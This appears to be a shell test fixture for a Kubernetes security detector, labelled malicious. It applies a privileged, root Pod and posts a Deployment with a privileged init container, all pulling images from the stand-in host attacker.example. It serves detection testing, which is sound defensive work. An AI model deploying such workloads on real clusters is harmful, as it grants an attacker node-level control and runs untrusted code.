# shellcheck shell=bash disable=SC2154
# what: a pod that may do what the node may.
# label: malicious
# expects: [privileged-container]
# allows: [image-from-unknown-registry, pod-runs-as-root, cluster-resource-created, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: v1
kind: Pod
metadata: {name: maintenance, namespace: shop}
spec: {containers: [{name: box, image: "attacker.example/tools:1", command: [sleep, "600"], securityContext: {privileged: true, runAsUser: 0}}]}
Y
}
hold_out() { python POST /apis/apps/v1/namespaces/shop/deployments '{"metadata":{"name":"cache-warmer"},"spec":{"selector":{"matchLabels":{"app":"w"}},"template":{"metadata":{"labels":{"app":"w"}},"spec":{"initContainers":[{"name":"init","image":"attacker.example/tools:1","securityContext":{"privileged":true}}],"containers":[{"name":"c","image":"attacker.example/tools:1"}]}}}}'; }
